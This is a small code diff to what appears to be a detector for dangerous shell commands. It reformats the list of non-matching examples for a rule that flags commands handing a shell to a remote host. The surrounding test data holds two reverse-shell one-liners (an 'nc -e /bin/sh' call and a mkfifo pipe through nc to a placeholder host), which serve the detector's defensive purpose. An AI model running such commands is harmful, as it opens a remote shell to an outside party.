@@ -29,7 +29,13 @@ READS_SETTINGS = frozenset(
         ("nc -e /bin/sh x.example 99", "network-connects", "execution-escape"),
         ("mkfifo f; sh <f | nc x.example 99 >f", "network-connects", "writes-file", "execution-unread-code"),
     ],
-    not_match=["bash -i", "ssh x.example", "ssh x.example bash", "nc x.example 99; bash", "mkfifo f; nc x.example 99 <f | ./tool >f"],
+    not_match=[
+        "bash -i",
+        "ssh x.example",
+        "ssh x.example bash",
+        "nc x.example 99; bash",
+        "mkfifo f; nc x.example 99 <f | ./tool >f",
+    ],
 )
 def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
     shells = (e for e in effects if e.kind == "exec-code" and ("interactive" in e.flags or "fifo" in e.taint))
